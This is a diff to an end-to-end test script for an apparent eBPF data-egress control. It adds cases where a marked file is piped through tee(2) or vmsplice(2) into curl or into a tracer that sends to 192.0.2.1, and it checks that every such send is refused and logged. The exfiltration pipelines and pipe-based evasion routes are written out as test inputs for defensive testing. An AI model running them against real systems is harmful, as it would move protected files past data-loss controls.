@@ -73,6 +73,12 @@ denied stdin "$C -T - $URL <'$f'"
 # again until EOF, and that second read's check sees the marked pipe: this one was refused
 # before fexit/pipe_read too.)
 denied pipe-blocked "(sleep 3; cat '$f') | $C -T - $URL"
+# A tee(2) that waits for its source pipe (round 13): $bin/pipe-feed's tee from the empty
+# pipe starts before cat writes the file into it, so the entry program saw nothing marked;
+# the source's mark goes to the destination when the tee returns (fexit/do_tee), and curl,
+# reading the destination after, is tainted. Before round 13 the roster went out.
+[ -x "$bin/pipe-feed" ] || fail "no pipe-feed (guest/pipe-feed.c needs gcc in the guest)"
+denied tee-wait "(sleep 1; exec cat '$f') | '$bin/pipe-feed' --tee | (sleep 3; exec $C -T - $URL)"
 # A reader that reads once, and says when it waits: python3 connects, sends its header and
 # blocks in read(0) before the writer starts; its one read returns the content, then it
 # sends. Without fexit/pipe_read the listener received it.
@@ -253,6 +259,45 @@ fe_log_has '"upload.denied"' bpf-lsm '"call":"exempt-feed"' '/usr/bin/cat' 'fire
 grep -q "Operation not permitted" "$E2E_SCRATCH/browser-pipe-wait.out" ||
 	fail "browser-pipe-wait: cat's write was not refused: $(cat "$E2E_SCRATCH/browser-pipe-wait.out")"
 note "browser-pipe-wait: cat's write into the pipe an exempt reader waits on refused, logged ($waited)"
+# The same wait, fed where no check can refuse: vmsplice(2), and tee(2) from a marked pipe
+# ($bin/pipe-feed). The data reach the waiting exempt reader; it is exempt no more, and its
+# upload of them ($bin/firefox-tracer --read-send, a connect to the listener) is refused and
+# logged naming it. Before round 13 the data went out.
+# fed_wait NAME FEEDER: FEEDER (a shell command, gated) feeds the pipe the reader waits on.
+fed_wait() {
+	local name=$1 feeder=$2 rc=0 bp sc w i waited= before fed0
+	before=$(denials)
+	fed0=$(status taint_exempt_fed)
+	rm -f "$shm/reader.pid" "$shm/gate" "$shm/reader.out"
+	mkfifo -m 0666 "$shm/gate"
+	e2e_as hanako timeout 60 bash -c "$feeder |
+		{ '$bin/firefox-tracer' --read-send 192.0.2.1 8080 >'$shm/reader.out' <&0 & echo \$! >'$shm/reader.pid'; wait \$!; }" >"$E2E_SCRATCH/$name.out" 2>&1 &
+	WPID=$!
+	for ((i = 0; i < 300; i++)); do
+		bp=$(cat "$shm/reader.pid" 2>/dev/null) || bp=
+		sc= w=
+		if [ -n "$bp" ]; then
+			sc=$(cat "/proc/$bp/syscall" 2>/dev/null) || sc=
+			w=$(cat "/proc/$bp/wchan" 2>/dev/null) || w=
+		fi
+		case "$sc|$w" in "0 0x0 "*|*pipe_read*) waited="after $i" && break ;; esac
+		sleep 0.05
+	done
+	timeout 10 sh -c 'echo go >"$1"' sh "$shm/gate" || true
+	wait "$WPID" || rc=$?
+	[ -n "$waited" ] || fail "$name: the exempt reader never waited in a read of the pipe: $(cat "$E2E_SCRATCH/$name.out")"
+	grep -q "$MARKER" "$shm/reader.out" ||
+		fail "$name: the feeder did not reach the reader (the case is not what it tests): $(cat "$E2E_SCRATCH/$name.out")"
+	! grep -q "$MARKER" "$recv" || fail "$name: the exempt reader sent what it was fed by $name"
+	[ "$rc" -eq 3 ] || fail "$name: the reader's send was not refused with EPERM (exit $rc): $(cat "$E2E_SCRATCH/$name.out")"
+	[ "$(status taint_exempt_fed)" -gt "$fed0" ] || fail "$name: taint_exempt_fed did not count the feed"
+	for ((i = 0; i < 50; i++)); do [ "$(denials)" -gt "$before" ] && break; sleep 0.1; done
+	fe_log_has '"upload.denied"' bpf-lsm firefox-tracer '192.0.2.1' >/dev/null && [ "$(denials)" -gt "$before" ] ||
+		fail "$name: the fed reader's refused send is not logged: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-700)"
+	note "$name: an exempt reader fed by $name while it waited is exempt no more: its send refused, logged ($waited)"
+}
+fed_wait vmsplice "(read -r _ <'$shm/gate'; exec '$bin/pipe-feed' --vmsplice '$f')"
+fed_wait tee "cat '$f' | (read -r _ <'$shm/gate'; exec '$bin/pipe-feed' --tee)"
 e2e_as hanako sh -c "base64 '$f' >'$U/copy-home.b64'"
 rc=0
 e2e_as hanako timeout 30 bash -c "$B -T '$U/copy-home.b64' $URL" >"$E2E_SCRATCH/home-copy.out" 2>&1 || rc=$?
